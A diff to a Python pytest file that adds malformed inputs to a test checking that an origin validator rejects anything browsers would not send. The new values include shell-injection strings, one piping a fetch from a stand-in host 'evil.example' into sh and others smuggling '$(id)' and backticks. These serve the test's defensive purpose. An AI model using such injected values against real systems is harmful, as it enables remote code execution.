@@ -150,7 +150,8 @@ def test_an_origin_is_as_browsers_send_it(origin: str) -> None:
     "origin",
     ["", "*", "null", "https://", "https://*", "https://A.example", "HTTPS://a.example", "https://a.example//",
      "https://a.example:443", "http://a.example:80", "https://a.example:x", "https://a.example:0443", "https://u@a.example",
-     "https://a.example?x", "https://a.example#x", "file://a", "https://bücher.example", "https://a.example\n", "https://[a"],
+     "https://a.example?x", "https://a.example#x", "file://a", "https://bücher.example", "https://a.example\n", "https://[a",
+     "https://x;{curl,evil.example}|sh", "https://a$(id)", "https://`id`", "https://" + "a" * 254],
 )  # fmt: skip
 def test_what_no_browser_sends_is_no_origin(origin: str) -> None:
     with pytest.raises(ValueError, match="must be an origin exactly as browsers send it"):
